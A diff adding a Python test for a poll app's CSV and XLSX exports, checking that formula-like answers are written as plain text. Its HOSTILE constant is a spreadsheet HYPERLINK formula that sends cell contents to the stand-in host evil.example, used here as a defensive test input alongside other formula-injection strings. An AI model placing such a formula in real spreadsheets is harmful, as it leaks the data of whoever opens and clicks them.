@@ -200,3 +200,33 @@ def test_shares_with_several_answers_are_of_voters(net: Net) -> None:
     report = poll_report(net.users["admin"], post.pk)
     assert report is not None and [a.percent for a in report.answers] == [100.0, 100.0, 0.0]
     assert results_xlsx(report)[:2] == b"PK"
+
+
+HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
+
+
+def test_exports_write_formula_like_texts_as_text(net: Net) -> None:
+    """A poll question or answer that starts like a formula is exported as text: CSV cells prefixed with ', XLSX
+    string cells (before: the XLSX held a live formula, the CSV a cell Excel runs)."""
+    post = counted_post(net, [(net.channels["central_vk"], [2, 1, 0], "")], question="+7 books or -3?")
+    PollAnswer.objects.filter(poll__post=post, position=0).update(text=HOSTILE)
+    PollAnswer.objects.filter(poll__post=post, position=1).update(text="@SUM(1)")
+    PollAnswer.objects.filter(poll__post=post, position=2).update(text="\t=1+1")
+    c = client_for(net, "viewer")
+    body = c.get(reverse("inbox:poll_export_csv", args=[post.pk])).content.decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(body), delimiter=";"))
+    assert rows[0][1] == "'+7 books or -3?"
+    assert [r[0] for r in rows[6:9]] == ["'" + HOSTILE, "'@SUM(1)", "'\t=1+1"]
+    assert rows[6][1:3] == ["2", "2"]  # numbers stay numbers
+    from openpyxl import load_workbook
+
+    content = c.get(reverse("inbox:poll_export_xlsx", args=[post.pk])).content
+    sheet = load_workbook(io.BytesIO(content)).active
+    cells = [sheet.cell(row=r, column=1) for r in (7, 8, 9)]
+    assert [cell.value for cell in cells] == ["'" + HOSTILE, "'@SUM(1)", "'\t=1+1"]
+    assert {cell.data_type for cell in cells} == {"s"} and sheet["B1"].data_type == "s"
+    assert sheet.cell(row=7, column=2).value == 2 and sheet.cell(row=7, column=2).data_type == "n"
+    import zipfile
+
+    xml = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in xml  # no formula anywhere in the sheet
